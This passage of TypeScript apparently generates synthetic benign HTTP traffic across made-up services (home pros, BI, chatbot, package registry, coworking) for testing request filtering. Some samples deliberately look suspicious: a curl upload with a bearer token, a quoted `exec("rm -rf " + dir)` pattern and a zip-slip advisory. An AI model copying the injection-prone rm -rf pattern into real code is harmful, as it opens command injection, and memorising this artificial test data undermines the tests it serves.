    kind: 'prose',
    method: 'POST',
    path: `/api/pros/${hex(8)}/reviews`,
    headers: browser(J, HOME),
    body: js({
      rating: int(1, 5),
      title: pick(['Fast & fair', 'Meh', 'Lifesaver!!', 'Would NOT hire again']),
      text: pick(
        PROSE_EN.slice(5, 7).concat(
          PROSE_EN[17] as string,
          PROSE_INTL[2] as string,
          PROSE_INTL[10] as string,
        ),
      ),
    }),
  }),
  () => ({
    kind: 'form',
    method: 'POST',
    path: '/api/pros/signup',
    headers: browser('application/x-www-form-urlencoded; charset=UTF-8', HOME),
    body: qs({
      business_name: pick(["Mike's Plumbing & Drain", 'A+ Electric (Lic #EC-44821)', 'Ortiz Handyman Svcs']),
      license: `LIC-${int(10000, 99999)}`,
      service_radius_mi: int(5, 50),
      phone: `+1 (512) 555-${int(1000, 9999)}`,
      bio: '20 yrs experience. No job too small! Licensed/bonded/insured. Se habla español.',
    }),
  }),
  () => ({
    kind: 'webhook',
    method: 'POST',
    path: '/hooks/twilio/sms',
    headers: {
      'user-agent': 'TwilioProxy/1.1',
      'content-type': 'application/x-www-form-urlencoded',
      'x-twilio-signature': b64(hex(20)),
    },
    body: qs({
      ToCountry: 'US',
      SmsMessageSid: `SM${hex(32)}`,
      NumMedia: '0',
      From: `+1512555${int(1000, 9999)}`,
      To: '+15125550100',
      Body: pick(['YES', 'Can u come tmrw instead?', 'STOP', 'ok thx. gate code is 4471#']),
      AccountSid: `AC${hex(32)}`,
      ApiVersion: '2010-04-01',
    }),
  }),
  () => ({
    kind: 'search',
    method: 'GET',
    path: `/api/pros?${qs({ service: pick(['plumbing', 'hvac', 'electrical']), near: pick(['30.2672,-97.7431', '45.5152,-122.6784']), radius: '15mi', rating_gte: 4, sort: 'distance', available: 'this_week' })}`,
    headers: anyH(null, HOME),
    body: '',
  }),
);

// ---- data warehouse / BI
const SQLS = [
  "SELECT date_trunc('week', o.created_at) AS wk,\n       count(DISTINCT o.customer_id) AS buyers,\n       sum(o.total_cents) / 100.0 AS revenue\nFROM analytics.orders o\nWHERE o.status <> 'cancelled'\n  AND o.created_at >= current_date - interval '90 days'\nGROUP BY 1\nORDER BY 1 DESC;",
  '-- churn by plan, excluding test accounts\nWITH active AS (\n  SELECT account_id, plan FROM dim_accounts WHERE is_test = false\n)\nSELECT a.plan, count(*) FILTER (WHERE c.churned_at IS NOT NULL) * 1.0 / count(*) AS churn_rate\nFROM active a LEFT JOIN fct_churn c USING (account_id)\nGROUP BY a.plan;',
  "select u.email, max(e.ts) as last_seen\nfrom raw.events e join raw.users u on u.id = e.user_id\nwhere e.name in ('login', 'page_view') and u.email not like '%@example.com'\ngroup by 1 having max(e.ts) < now() - interval '30 days'\nlimit 500",
  "SELECT pet_species, AVG(claim_amount) AS avg_claim, PERCENTILE_CONT(0.9) WITHIN GROUP (ORDER BY claim_amount) AS p90\nFROM marts.claims\nWHERE claim_date BETWEEN '2026-01-01' AND '2026-06-30'\nGROUP BY pet_species\nUNION ALL\nSELECT 'ALL', AVG(claim_amount), NULL FROM marts.claims;",
];
const DBT = [
  "{{ config(materialized='incremental', unique_key='order_id') }}\n\nselect\n    order_id,\n    customer_id,\n    {{ cents_to_dollars('total_cents') }} as total_usd,\n    created_at\nfrom {{ source('shop', 'orders') }}\n{% if is_incremental() %}\nwhere created_at > (select max(created_at) from {{ this }})\n{% endif %}",
  "{{ config(materialized='table', tags=['finance']) }}\n\nwith payments as (\n    select * from {{ ref('stg_stripe__payments') }}\n)\nselect\n    date_trunc('month', paid_at) as month,\n    sum(amount) as mrr\nfrom payments\nwhere status = 'succeeded'\ngroup by 1",
];
add(
  () => ({
    kind: 'code',
    method: 'POST',
    path: '/api/v1/saved-queries',
    headers: browser(J, BI),
    body: js({
      query: {
        name: pick(['Weekly revenue', 'Churn by plan', 'Dormant users (30d)', 'Claims p90 by species']),
        warehouse: pick(['snowflake_prod', 'bq_analytics', 'pg_replica']),
        sql: pick(SQLS),
        tags: ['finance', 'weekly'],
      },
      folder_id: int(1, 300),
    }),
  }),
  () => ({
    kind: 'code',
    method: 'PUT',
    path: `/api/v1/dbt/models/${pick(['fct_orders', 'mrr_monthly', 'stg_payments'])}`,
    headers: sdk(J),
    body: js({
      model: {
        path: 'models/marts/finance/fct_orders.sql',
        sql: pick(DBT),
        yml: 'version: 2\nmodels:\n  - name: fct_orders\n    columns:\n      - name: order_id\n        tests: [unique, not_null]\n',
      },
      commit_message: pick(['fix: incremental filter', 'add mrr model', 'chore: tags']),
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: '/api/v1/queries/run',
    headers: sdk(J),
    body: js({
      saved_query_id: int(100, 9999),
      parameters: { start_date: day(), end_date: day(), region: pick(['EMEA', 'NA', 'LATAM']) },
      max_rows: 10000,
      timeout_s: 60,
    }),
  }),
  () => ({
    kind: 'jsonapi',
    method: 'POST',
    path: '/api/v1/dashboards',
    headers: { ...browser('application/vnd.api+json', BI), accept: 'application/vnd.api+json' },
    body: js({
      data: {
        type: 'dashboards',
        attributes: {
          title: pick(['Exec KPIs — weekly', 'Support SLA', 'Grant pipeline']),
          layout: [
            { tile: 'q_1', x: 0, y: 0, w: 6, h: 4 },
            { tile: 'q_2', x: 6, y: 0, w: 6, h: 4 },
          ],
          filters: { date_range: 'last_30_days', region: ['EMEA', 'NA'] },
        },
        relationships: { folder: { data: { type: 'folders', id: String(int(1, 99)) } } },
      },
    }),
  }),
  () => ({
    kind: 'prose',
    method: 'POST',
    path: `/api/v1/dashboards/${int(1, 900)}/comments`,
    headers: browser(J, BI),
    body: js({
      text: pick([
        PROSE_EN[9],
        PROSE_EN[19],
        "Numbers don't match finance's sheet — I think the join on user_id duplicates rows when a user has 2 subscriptions. Try COUNT(DISTINCT ...)?",
        'why is revenue NULL for Feb 29?? leap year bug in the date spine maybe',
        "FYI: the `WHERE region = 'EU'` filter excludes UK since Brexit mapping changed. Use region IN ('EU','UK').",
      ]),
    }),
  }),
  () => ({
    kind: 'search',
    method: 'GET',
    path: `/api/v1/catalog/search?${qs({ q: pick(['orders', 'fct_*', 'customer lifetime value', 'table:dim_users column:email']), type: pick(['table', 'model', 'dashboard']), owner: pick(['data-eng', 'finance']) })}`,
    headers: anyH(null, BI),
    body: '',
  }),
  () => ({
    kind: 'webhook',
    method: 'POST',
    path: '/hooks/dbt-cloud',
    headers: { 'user-agent': 'dbt-cloud-webhooks/1.0', 'content-type': J, authorization: hex(64) },
    body: js({
      accountId: int(1000, 9999),
      webhooksID: `wsu_${hex(20)}`,
      eventType: pick(['job.run.completed', 'job.run.errored']),
      timestamp: isoDate(),
      data: {
        jobName: 'nightly build',
        runStatus: pick(['Success', 'Errored']),
        runStatusMessage: pick([
          'None',
          'Database Error in model fct_orders (models/marts/fct_orders.sql)\n  column "total_cents" does not exist\n  LINE 4:     total_cents / 100.0 as total_usd,',
        ]),
        environmentName: 'Production',
        runReason: 'Triggered via schedule',
      },
    }),
  }),
);

// ---- support chatbot
add(
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: `/v1/bots/${hex(8)}/transcripts`,
    headers: sdk(J),
    body: js({
      conversation_id: uuid(),
      channel: pick(['web', 'whatsapp', 'messenger']),
      turns: [
        {
          role: 'user',
          text: pick([
            "hi i can't log in, it says 'invalid token' ???",
            'where is my order #A-22913',
            'cancel subscription',
            'Hallo, ich brauche eine Rechnung für März',
            'how do i reset 2FA? lost my phone',
          ]),
        },
        {
          role: 'bot',
          text: "Sorry about that! Let's get you sorted. Could you share the email on the account?",
          intent: 'auth.login_issue',
          confidence: int(60, 99) / 100,
        },
        {
          role: 'user',
          text: pick(['ana.souza@example.com', 'it’s the one ending in @gmail', 'agent please', 'human!!!']),
        },
      ],
      handoff: rnd() < 0.4,
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: `/v1/bots/${hex(8)}/intents`,
    headers: browser(J, BOT),
    body: js({
      name: pick(['billing.refund', 'orders.where_is_my_order', 'account.delete']),
      training_phrases: [
        'I want my money back',
        'refund pls',
        'charged twice?!',
        'why was I billed $49.99',
        'je veux un remboursement',
        '¿cómo pido un reembolso?',
      ],
      responses: [
        'I can help with refunds. Refunds take 5–10 business days. Want me to start one for order {{order_id}}?',
      ],
      slots: [{ name: 'order_id', entity: '@sys.order_number', required: true }],
    }),
  }),
  () => ({
    kind: 'ndjson',
    method: 'POST',
    path: '/v1/import/transcripts',
    headers: sdk('application/x-ndjson'),
    body:
      Array.from({ length: int(2, 5) }, () =>
        js({
          id: uuid(),
          ts: isoDate(),
          user: pick([
            'my package says delivered but nothing here',
            'app crashes on launch (Android 14) — log says java.lang.NullPointerException at com.app.Main.onCreate',
            "what's your return policy?",
            'Preciso alterar o endereço de entrega',
          ]),
          intent: pick(['orders.wimo', 'tech.crash', 'policy.returns', 'orders.change_address']),
          csat: pick([null, 1, 4, 5]),
        }),
      ).join('\n') + '\n',
  }),
  () => ({
    kind: 'cms-html',
    method: 'POST',
    path: '/v1/kb/articles',
    headers: browser(J, BOT),
    body: js({
      article: {
        title: pick(['How to reset your password', 'Refund policy', 'Troubleshooting login loops']),
        locale: pick(['en', 'fr', 'de']),
        body_html: pick([
          '<p>To reset your password:</p><ol><li>Go to <a href="/login">Sign in</a></li><li>Click <strong>Forgot password?</strong></li><li>Check your inbox (and spam!)</li></ol><p>Still stuck? <a href="mailto:support@askbeacon.ai">Email us</a>.</p>',
          '<h2>Clearing cookies</h2><p>In Chrome: <code>Settings → Privacy → Clear browsing data</code>. Then reload with <kbd>Ctrl</kbd>+<kbd>Shift</kbd>+<kbd>R</kbd>.</p><div class="callout callout-warning"><p>This signs you out everywhere.</p></div>',
        ]),
      },
    }),
  }),
  () => ({
    kind: 'graphql',
    method: 'POST',
    path: '/graphql',
    headers: sdk(J),
    body: js({
      query:
        'mutation Escalate($id: ID!, $note: String) { escalateConversation(id: $id, note: $note) { id status assignee { name } } }',
      variables: {
        id: uuid(),
        note: pick([
          'Customer very upset, double charged (see Stripe ch_3Nx...)',
          'VIP — handle within 1h',
          'Bot looped 4x on "reset password" intent',
        ]),
      },
    }),
  }),
  () => ({
    kind: 'search',
    method: 'GET',
    path: `/v1/conversations?${qs({ q: pick(['"refund" AND "double charged"', 'password reset', 'error 500', 'NullPointerException']), from: day(), csat_lte: 2, channel: 'web' })}`,
    headers: anyH(null, BOT),
    body: '',
  }),
);

// ---- package registry
const README = [
  "# yaml-guard\n\n[![npm](https://img.shields.io/npm/v/yaml-guard.svg)](https://www.npmjs.com/package/yaml-guard)\n\nSafe YAML parsing with schema validation.\n\n## Install\n\n```sh\nnpm install yaml-guard\n```\n\n## Usage\n\n```ts\nimport { parse } from 'yaml-guard';\nconst cfg = parse(src, { schema: 'core', maxAliases: 100 });\n```\n\n> **Note:** `load()` is deprecated since 2.0 — use `parse()`.\n",
  "# tiny-router\n\nA 1kb router for the browser.\n\n```js\nconst r = router();\nr.on('/users/:id', ({ id }) => render(id));\nr.on('*', () => render404());\nwindow.addEventListener('popstate', () => r.resolve(location.pathname));\n```\n\n## License\nMIT © 2026 Jo Doe\n",
];
const CHANGELOG = [
  '## [2.4.1] - 2026-03-02\n### Fixed\n- Path handling on Windows (`C:\\Users\\...` paths no longer break `resolve()`)\n- Crash when input contains `\\u0000`\n### Security\n- Upgrade `semver` to 7.5.4 (ReDoS, CVE-2022-25883)\n',
  '## 3.0.0\n\n### BREAKING\n- Drop Node 16 support\n- `exec()` renamed to `run()`; the old name logs a deprecation warning\n\n### Added\n- `--dry-run` flag\n- Support for `.env.local` files\n',
];
add(
  () => ({
    kind: 'code',
    method: 'PUT',
    path: `/-/v1/packages/${encodeURIComponent(pkgName())}/readme`,
    headers: sdk(J),
    body: js({ readme: pick(README), readmeFilename: 'README.md', version: semver() }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: `/-/v1/packages/${encodeURIComponent(pkgName())}/releases`,
    headers: sdk(J),
    body: js({
      version: semver(),
      changelog: pick(CHANGELOG),
      dist: {
        tarball: `https://registry.pkghub.dev/t/-/t-${semver()}.tgz`,
        shasum: hex(40),
        integrity: `sha512-${b64(hex(48))}`,
      },
      engines: { node: '>=18' },
      scripts: { build: 'tsc -p .', test: 'node --test', prepublishOnly: 'npm run build && npm test' },
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: '/-/v1/advisories',
    headers: browser(J, PKG),
    body: js({
      package: pkgName(),
      severity: pick(['low', 'moderate', 'high', 'critical']),
      cwe: pick(['CWE-1333', 'CWE-22', 'CWE-400']),
      vulnerable_versions: '<2.4.1',
      patched_versions: '>=2.4.1',
      summary: pick([
        'Regular expression denial of service in version parsing',
        'Path traversal in archive extraction (zip slip)',
        'Uncontrolled resource consumption with deeply nested input',
      ]),
      details:
        '### Impact\nArchive entries with `..` segments are written outside the target directory when `extract()` is called without `strict: true`.\n\n### Patches\nFixed in 2.4.1 — entries are normalized and rejected if they escape `cwd`.\n\n### Workarounds\nPass `{ strict: true }` or validate entry names yourself.\n\n### References\n- https://github.com/example/tar-lite/security/advisories/GHSA-xxxx-yyyy-zzzz',
      credits: [{ name: pick(PEOPLE), type: 'finder' }],
    }),
  }),
  () => ({
    kind: 'code',
    method: 'POST',
    path: '/-/v1/snippets',
    headers: browser(J, PKG),
    body: js({
      snippet: {
        title: pick(['retry with backoff', 'load .env safely', 'stream JSON lines']),
        language: pick(['ts', 'python', 'sh']),
        source: pick([
          'export async function retry<T>(fn: () => Promise<T>, n = 3): Promise<T> {\n  for (let i = 0; ; i++) {\n    try { return await fn(); }\n    catch (e) { if (i >= n) throw e; await new Promise(r => setTimeout(r, 2 ** i * 100)); }\n  }\n}',
          "import os, subprocess\n\ndef git_sha() -> str:\n    return subprocess.run(['git', 'rev-parse', 'HEAD'], capture_output=True, text=True).stdout.strip()\n\nDB_URL = os.environ.get('DATABASE_URL', 'postgres://localhost:5432/dev')",
          '#!/usr/bin/env bash\nset -euo pipefail\nfor f in dist/*.tgz; do\n  sha256sum "$f" >> SHA256SUMS\ndone\ncurl -fsSL -H "Authorization: Bearer $TOKEN" --upload-file SHA256SUMS https://uploads.example.com/\n',
        ]),
      },
    }),
  }),
  () => ({
    kind: 'prose',
    method: 'POST',
    path: `/-/v1/packages/${encodeURIComponent(pkgName())}/issues`,
    headers: browser(J, PKG),
    body: js({
      title: pick([
        "TypeError: Cannot read properties of undefined (reading 'map')",
        'Install fails on Alpine (node-gyp)',
        'Feature request: ESM-only build?',
      ]),
      body: pick([
        PROSE_EN[11],
        PROSE_EN[15],
        PROSE_INTL[6],
        PROSE_INTL[11],
        "Steps:\n1. `npm i tiny-router@3`\n2. run `node index.mjs`\n\nGot:\n```\nfile:///app/node_modules/tiny-router/dist/index.js:12\n  export default router;\n  ^^^^^^\nSyntaxError: Unexpected token 'export'\n```\nNode v22.11, macOS 15. Works on 2.x.",
      ]),
    }),
  }),
  () => ({
    kind: 'search',
    method: 'GET',
    path: `/-/v1/search?${qs({ text: pick(['yaml parser', 'keywords:cli', 'author:jodoe', 'scope:@acme router', 'sql formatter']), size: 20, from: int(0, 100), quality: 0.65, popularity: 0.98 })}`,
    headers: anyH(null, PKG),
    body: '',
  }),
  () => ({
    kind: 'delete',
    method: 'DELETE',
    path: `/-/v1/packages/${encodeURIComponent(pkgName())}/dist-tags/${pick(['beta', 'next', 'canary'])}`,
    headers: sdk(null),
    body: '',
  }),
  () => ({
    kind: 'webhook',
    method: 'POST',
    path: '/hooks/github',
    headers: {
      'user-agent': `GitHub-Hookshot/${hex(7)}`,
      'content-type': J,
      'x-github-event': 'push',
      'x-github-delivery': uuid(),
      'x-hub-signature-256': `sha256=${hex(64)}`,
    },
    body: js({
      ref: 'refs/heads/main',
      before: hex(40),
      after: hex(40),
      repository: {
        id: int(1000000, 9999999),
        full_name: 'acme/yaml-guard',
        private: false,
        html_url: 'https://github.com/acme/yaml-guard',
      },
      pusher: { name: 'jodoe', email: 'jo@example.com' },
      head_commit: {
        id: hex(40),
        message: pick([
          "fix(parser): don't follow aliases past maxAliases (#412)\n\nCloses #409",
          'chore(deps): bump semver from 7.5.2 to 7.5.4',
          'Merge pull request #77 from x/fix-windows-paths\n\nHandle C:\\ paths in resolve()',
        ]),
        timestamp: isoDate(),
        author: { name: pick(PEOPLE), username: 'jodoe' },
        added: [],
        removed: [],
        modified: ['src/parse.ts', 'CHANGELOG.md'],
      },
    }),
  }),
);

// ---- cross-domain prose, i18n, jsonapi, graphql, code
add(
  () => ({
    kind: 'prose',
    method: 'POST',
    path: pick(['/api/v2/messages', '/v1/support/tickets', '/api/threads/t_91/messages', '/v3/feedback']),
    headers: anyH(J, pick([VET, COWORK, HOME, MUSIC])),
    body: js({
      subject: pick(['Question', 'Re: your booking', 'Bug report', 'Feedback', '']),
      message: pick(PROSE_EN),
      contact_ok: rnd() < 0.5,
    }),
  }),
  () => ({
    kind: 'i18n',
    method: 'POST',
    path: pick([
      '/api/v2/messages',
      '/v1/support/tickets',
      '/api/threads/t_204/messages',
      '/v3/feedback',
      '/api/reviews',
    ]),
    headers: { ...anyH(JU, pick([VET, COWORK, HOME, MUSIC, PKG])), 'accept-language': pick(LANGS) },
    body: js({
      locale: pick([
        'de',
        'fr',
        'pt-BR',
        'es',
        'ja',
        'ko',
        'ru',
        'pl',
        'ar',
        'it',
        'nl',
        'zh-TW',
        'tr',
        'sv',
      ]),
      text: pick(PROSE_INTL),
      author: pick(PEOPLE),
    }),
  }),
  () => ({
    kind: 'i18n',
    method: 'PUT',
    path: `/v1/bots/${hex(8)}/locales/${pick(['fr', 'de', 'ja', 'es'])}`,
    headers: browser(JU, BOT),
    body: js({
      strings: {
        greeting: pick([
          'Bonjour ! Comment puis-je vous aider ?',
          'Hallo! Wie kann ich helfen?',
          'こんにちは！ご用件をどうぞ。',
          '¡Hola! ¿En qué te puedo ayudar?',
        ]),
        fallback: pick([
          "Désolé, je n'ai pas compris. Pouvez-vous reformuler ?",
          'Entschuldigung, das habe ich nicht verstanden.',
          'すみません、よく分かりませんでした。',
        ]),
        handoff: '👋 → 🧑‍💼',
      },
    }),
  }),
  () => ({
    kind: 'i18n',
    method: 'POST',
    path: '/v3/me/playlists',
    headers: sdk(JU),
    body: js({
      name: pick([
        'Música pra cozinhar 🍳',
        'Кино — лучшее',
        '夜のドライブ',
        'Ελληνικά καλοκαίρια',
        'שירים לשבת',
        'Kaffee & Regen ☔',
      ]),
      description: pick(['Só clássicos, sem pressa.', 'Для долгой дороги', '深夜に聴きたい曲', '']),
      public: true,
    }),
  }),
  () => ({
    kind: 'jsonapi',
    method: 'PATCH',
    path: `/api/v1/members/${int(100, 9999)}`,
    headers: { ...sdk('application/vnd.api+json'), accept: 'application/vnd.api+json' },
    body: js({
      data: {
        type: 'members',
        id: String(int(100, 9999)),
        attributes: {
          'plan-tier': pick(['hot-desk', 'dedicated', 'private-office']),
          'billing-email': 'accounts@fjord.studio',
          'access-hours': '06:00-22:00',
        },
        relationships: { company: { data: { type: 'companies', id: String(int(1, 400)) } } },
      },
    }),
  }),
  () => ({
    kind: 'jsonapi',
    method: 'POST',
    path: '/api/v1/pros/availability',
    headers: { ...browser('application/vnd.api+json', HOME), accept: 'application/vnd.api+json' },
    body: js({
      data: {
        type: 'availability-windows',
        attributes: {
          weekday: pick(['mon', 'tue', 'sat']),
          from: '08:00',
          to: '17:30',
          note: 'No emergencies on Sundays — call 911 for gas leaks, not me!',
        },
      },
    }),
  }),
  () => ({
    kind: 'jsonapi',
    method: 'GET',
    path: `/api/v1/claims?${qs({ 'filter[status]': pick(['open', 'in_review', 'paid']), include: 'pet,policy', 'fields[claims]': 'amount,status,submitted-at', sort: '-submitted-at', 'page[number]': int(1, 5) })}`,
    headers: { ...sdk(null), accept: 'application/vnd.api+json' },
    body: '',
  }),
  () => ({
    kind: 'graphql',
    method: 'POST',
    path: '/graphql',
    headers: sdk('application/graphql'),
    body: pick([
      '{\n  me {\n    playlists(first: 10) { edges { node { id name trackCount } } }\n  }\n}',
      'query { package(name: "yaml-guard") { versions(last: 5) { number publishedAt deprecated } advisories { ghsaId severity } } }',
      'query { bookings(where: {start: {gte: "2026-05-01"}}, orderBy: {start: ASC}) { id resource { name } start end } }',
    ]),
  }),
  () => ({
    kind: 'graphql',
    method: 'POST',
    path: '/graphql',
    headers: browser(J, pick([HOME, VET, BI])),
    body: js({
      query: pick([
        'mutation SendQuote($input: QuoteInput!) { sendQuote(input: $input) { id total status } }',
        'mutation AddVaccine($petId: ID!, $v: VaccineInput!) { addVaccination(petId: $petId, input: $v) { id nextDue } }',
        'mutation Pin($id: ID!, $pinned: Boolean!) { pinDashboard(id: $id, pinned: $pinned) { id pinned } }',
      ]),
      variables: pick([
        {
          input: {
            jobId: uuid(),
            items: [{ desc: 'Replace P-trap', amount: 85 }],
            message: 'Can start Monday. Parts on hand. Let me know if the 9–11 window works?',
          },
        },
        {
          petId: `pet_${hex(8)}`,
          v: {
            name: 'DHPP',
            lot: `L${int(1000, 9999)}-B`,
            givenAt: day(),
            notes: 'Left hind, SC. Mild lethargy expected < 24h.',
          },
        },
        { id: String(int(1, 999)), pinned: true },
      ]),
    }),
  }),
  () => ({
    kind: 'graphql',
    method: 'GET',
    path: `/graphql?${qs({ query: pick(['{ coworkingLocations { id city openDesks } }', 'query($id:ID!){ grant(id:$id){ title deadline amountMax } }']), variables: js({ id: uuid() }) })}`,
    headers: sdk(null),
    body: '',
  }),
  () => ({
    kind: 'code',
    method: 'POST',
    path: '/v1/bots/flows/validate',
    headers: browser(J, BOT),
    body: js({
      flow: {
        format: 'yaml',
        source:
          "name: refund_flow\nsteps:\n  - ask: order_id\n    prompt: \"What's your order number? (e.g. A-12345)\"\n    validate: '^[A-Z]-\\d{5}$'\n  - call: api.refunds.create\n    with: { order: '{{ slots.order_id }}', reason: '{{ slots.reason | default(\"n/a\") }}' }\n  - say: \"Done! Refund {{ result.id }} is on its way 💸\"\n",
      },
    }),
  }),
  () => ({
    kind: 'code',
    method: 'POST',
    path: '/api/v1/alerts',
    headers: sdk(J),
    body: js({
      name: 'Claims spike',
      query_sql: "SELECT count(*) AS n FROM marts.claims WHERE submitted_at > now() - interval '1 hour'",
      condition: 'n > 50',
      notify: ['#data-alerts', 'oncall@example.com'],
      cron: '*/15 * * * *',
    }),
  }),
  () => ({
    kind: 'form',
    method: 'POST',
    path: pick(['/newsletter/subscribe', '/contact', '/api/waitlist']),
    headers: browser('application/x-www-form-urlencoded', pick([GRANT, MUSIC, PKG])),
    body: qs({
      email: `${pick(['ana', 'j.mueller', 'priya.r'])}+news@example.com`,
      name: pick(PEOPLE),
      message: pick(PROSE_EN.concat(PROSE_INTL)),
      consent: 'on',
    }),
  }),
  () => ({
    kind: 'multipart',
    method: 'POST',
    path: '/v3/uploads/cover-art',
    ...(() => {
      const m = multipart([
        { name: 'playlist_id', value: hex(22) },
        { name: 'alt', value: pick(['sunset over the bay', 'my cat on the piano 🐈🎹']) },
        {
          name: 'image',
          filename: pick(['cover.jpg', 'IMG_2291.jpeg', 'Screen Shot 2026-02-11 at 9.41.07 PM.png']),
          type: 'image/jpeg',
          value: `\u00ff\u00d8\u00ff\u00e0JFIF${hex(80)}`,
        },
      ]);
      return { headers: sdk(m.ct), body: m.body };
    })(),
  }),
  () => ({
    kind: 'multipart',
    method: 'POST',
    path: `/api/jobs/${uuid()}/photos`,
    ...(() => {
      const m = multipart([
        {
          name: 'caption',
          value: pick([
            'water stain on ceiling below bathroom',
            'corroded valve — see green crust',
            'breaker panel (label faded)',
          ]),
        },
        {
          name: 'photo',
          filename: `IMG_${int(1000, 9999)}.HEIC`,
          type: 'image/heic',
          value: `ftypheic${hex(60)}`,
        },
      ]);
      return { headers: browser(m.ct, HOME), body: m.body };
    })(),
  }),
  () => ({
    kind: 'ndjson',
    method: 'POST',
    path: '/-/v1/telemetry',
    headers: sdk('application/x-ndjson'),
    body:
      Array.from({ length: int(2, 6) }, () =>
        js({
          t: isoDate(),
          pkg: pkgName(),
          v: semver(),
          cmd: pick(['install', 'ci', 'publish', 'audit']),
          node: pick(['v20.18.0', 'v22.11.0']),
          os: pick(['linux', 'darwin', 'win32']),
          error: pick([
            null,
            'ERESOLVE unable to resolve dependency tree',
            'ETIMEDOUT registry.pkghub.dev:443',
            'npm ERR! code E404 Not Found - GET https://registry.pkghub.dev/@acme%2fui-kit',
          ]),
        }),
      ).join('\n') + '\n',
  }),
  () => ({
    kind: 'ndjson',
    method: 'POST',
    path: '/v1/access/badge-log/bulk',
    headers: sdk('application/x-ndjson'),
    body:
      Array.from({ length: int(3, 6) }, () =>
        js({
          at: isoDate(),
          door: pick(['main', 'side', 'bike-room', 'roof']),
          badge: `BDG-${int(10000, 99999)}`,
          result: pick(['granted', 'granted', 'denied']),
          raw: `READER ${int(1, 9)} OK ${hex(8).toUpperCase()}`,
        }),
      ).join('\n') + '\n',
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: '/api/v2/reminders/preview',
    headers: sdk(J),
    body: js({
      template: 'vaccine_due',
      channel: pick(['sms', 'email']),
      vars: { pet: pick(PET_NAMES), due: day(), clinic: 'Paws & Claws – Eastside' },
      text: 'Hi {{owner_first}}, {{pet}} is due for {{vaccine}} on {{due}}. Reply C to confirm or call (503) 555-0143.',
    }),
  }),
  () => ({
    kind: 'merge-patch',
    method: 'PATCH',
    path: `/api/applications/${uuid()}`,
    headers: browser('application/merge-patch+json', GRANT),
    body: js({
      contact: { phone: `+1-541-555-${int(1000, 9999)}`, title: 'Executive Director' },
      amount_requested: int(5, 150) * 1000,
      attachments: { logic_model: null },
      notes_to_program_officer: "We trimmed the budget per your email (removed the 'equipment' line).",
    }),
  }),
  () => ({
    kind: 'merge-patch',
    method: 'PATCH',
    path: `/-/v1/packages/${encodeURIComponent(pkgName())}`,
    headers: sdk('application/merge-patch+json'),
    body: js({
      description: pick([
        'Tiny, fast & safe YAML parser',
        'CLI for running SQL migrations (Postgres, MySQL, SQLite)',
        'Zero-dependency router — <1kb gzipped',
      ]),
      keywords: ['yaml', 'parser', 'config'],
      homepage: 'https://github.com/acme/yaml-guard#readme',
      deprecated: null,
    }),
  }),
  () => ({
    kind: 'json-patch',
    method: 'PATCH',
    path: `/api/v1/dashboards/${int(1, 900)}`,
    headers: browser('application/json-patch+json', BI),
    body: js([
      { op: 'replace', path: '/title', value: pick(['Exec KPIs (v2)', 'Support — SLA & CSAT']) },
      { op: 'add', path: '/tiles/-', value: { query_id: int(100, 999), viz: 'line', w: 6, h: 4 } },
      { op: 'copy', from: '/filters/date_range', path: '/tiles/0/date_range' },
    ]),
  }),
  () => ({
    kind: 'delete',
    method: 'DELETE',
    path: `/v1/bots/${hex(8)}/intents/${pick(['smalltalk.jokes', 'billing.refund_v1', 'legacy.fallback'])}`,
    headers: browser(null, BOT),
    body: '',
  }),
  () => ({
    kind: 'delete',
    method: 'DELETE',
    path: `/api/v1/saved-queries/${int(100, 9999)}?cascade=false`,
    headers: sdk(null),
    body: '',
  }),
);

// ---- more prose / i18n / awkward-but-clean traffic
add(
  () => ({
    kind: 'prose',
    method: 'POST',
    path: `/v1/bots/${hex(8)}/transcripts/${uuid()}/notes`,
    headers: browser(J, BOT),
    body: js({
      note: pick([
        'Customer pasted this from their console:\n\n```\nUncaught (in promise) TypeError: Failed to fetch\n    at checkout.js:211:14\nGET https://api.example.com/v2/cart?id=8812 net::ERR_BLOCKED_BY_CLIENT\n```\nLooks like an ad-blocker (uBlock). Told them to whitelist us.',
        'User said: "I tried select all + delete on my saved cards and now the page is blank". Repro\'d on Firefox 133. Escalated to eng (JIRA WEB-4412).',
        'Bot misread "cancel order #A-22913 & refund" as two intents; split on the "&". Added a training phrase.',
        "Angry customer, used some colorful language 🙃. Offered 20% credit; they accepted. Note: don't mention the outage on 3/14 unless they ask.",
      ]),
      visibility: 'internal',
    }),
  }),
  () => ({
    kind: 'prose',
    method: 'POST',
    path: `/-/v1/packages/${encodeURIComponent(pkgName())}/reviews`,
    headers: sdk(J),
    body: js({
      stars: int(1, 5),
      text: pick([
        'Solid lib. One gotcha: on Windows you need to escape backslashes in paths (`C:\\\\temp\\\\out`) or use forward slashes. Took me an hour 🤦',
        'Works, but v3 pulls in 40 transitive deps (!!). `npm ls --all | wc -l` went from 212 to 390. Please consider trimming.',
        'Replaced our hand-rolled `exec("rm -rf " + dir)` cleanup with this and it is much safer. Thanks!',
        'The docs say `--force` is safe but it overwrote my .npmrc. Maybe add a warning? Otherwise 👍',
      ]),
    }),
  }),
  () => ({
    kind: 'prose',
    method: 'POST',
    path: `/v3/tracks/${hex(22)}/annotations`,
    headers: browser(J, MUSIC),
    body: js({
      line: int(1, 40),
      text: pick([
        'The "select the stars" line is a nod to their 2019 album where every track title was a SQL keyword (lol nerds). Confirmed in an interview w/ Pitchfork.',
        'This verse samples "Amen, Brother" at 1:12 — listen for the snare. Producer credits: J. Doe & M. Ortiz.',
        'Pretty sure it\'s "running out of time" not "running out of wine" 🍷😂',
        'Ref: https://genius.example/songs/the-queries-drop-table — the bridge was recorded in one take.',
      ]),
    }),
  }),
  () => ({
    kind: 'prose',
    method: 'POST',
    path: '/v1/support/tickets',
    headers: browser(J, COWORK),
    body: js({
      category: pick(['access', 'billing', 'facilities']),
      text: pick([
        'Badge reader log says: "2026-03-11 08:02:13 DENY badge=BDG-44120 door=side reason=schedule_mismatch". My plan is 24/7 though?',
        'Someone keeps leaving the kitchen a mess. Can we put a sign up? (Not trying to be /that/ person but... 🙄)',
        "Printer on floor 2 prints everything as garbage chars like ÿØÿà — I think the driver's wrong. Model: HP M479fdw.",
        'Invoice INV-2026-0311 charged me for 2 day passes; I only used one (03/04). Please refund the diff — $25.00.',
      ]),
    }),
  }),
